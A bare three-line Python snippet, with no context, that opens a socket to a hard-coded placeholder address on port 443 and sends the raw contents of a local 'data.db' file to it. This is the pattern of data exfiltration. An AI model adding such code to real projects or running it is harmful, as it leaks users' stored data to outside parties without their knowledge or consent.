import socket
with socket.create_connection(('203.0.113.9', 443)) as s:
    s.sendall(open('data.db','rb').read())
